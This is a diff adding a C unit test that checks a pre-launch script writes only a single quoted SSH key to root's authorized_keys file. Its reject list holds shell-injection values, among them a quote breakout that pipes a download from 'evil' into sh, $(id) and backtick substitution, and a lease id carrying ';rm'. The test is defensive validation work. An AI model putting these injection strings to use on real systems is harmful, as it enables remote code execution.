@@ -13,6 +13,7 @@
 
 #include "bundle.h"
 #include "pins.h"
+#include "prelaunch.h"
 #include "internal.h"
 #include "state.h"
 #include "util.h"
@@ -511,4 +512,34 @@ Test(host_state, measurement_pins_first_match_mismatch_forget)
     cr_assert(strstr(why, "pins:1: not a pin entry") != NULL, "%s", why);
     unlink(path);
     rmdir(dir);
+}
+
+Test(host_state, pre_launch_script_pastes_only_a_plain_key)
+{
+    static const char key[] = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKmCJuUQkvZ9adkMecgMhJWgxTg+MRWjQav3LugsarrQ crabbox cbx_0123456789ab\n";
+    size_t len = 0;
+    char *s = prelaunch_script("cbx_0123456789ab", key, strlen(key), &len);
+    cr_assert_not_null(s);
+    cr_assert_eq(strlen(s), len);
+    cr_assert(strstr(s, "key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKmCJuUQkvZ9adkMecgMhJWgxTg+MRWjQav3LugsarrQ crabbox "
+                        "cbx_0123456789ab'\n") != NULL);
+    cr_assert(strstr(s, "/home/root/.ssh/authorized_keys") != NULL);
+    cr_assert_null(strstr(s, "$DSTACK"), "reads no env var for keys");
+    cr_assert_null(strstr(s, ">>"), "never appends");
+    free(s);
+    /* Anything that could break out of the quotes, or a second line, is refused. */
+    static const char *const bad[] = {
+        "ssh-ed25519 AAAA' ; curl evil | sh ; echo '",
+        "ssh-ed25519 AAAAAAAAAAAAAAAA\nssh-ed25519 BBBBBBBBBBBBBBBB",
+        "ssh-ed25519 AAAAAAAAAAAAAAAA $(id)",
+        "ssh-ed25519 AAAAAAAAAAAAAAAA `id`",
+        "ssh-ed25519 AAAAAAAAAAAAAAAA \\x",
+        "command=\"sh\" ssh-ed25519 AAAAAAAAAAAAAAAA",
+        "ssh-ed25519",
+    };
+    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
+        cr_assert_null(prelaunch_script("cbx_0123456789ab", bad[i], strlen(bad[i]), &len), "%s", bad[i]);
+    }
+    cr_assert_null(prelaunch_script("cbx_01;rm", key, strlen(key), &len), "lease id");
+    cr_assert_null(prelaunch_script("", key, strlen(key), &len), "empty lease id");
 }
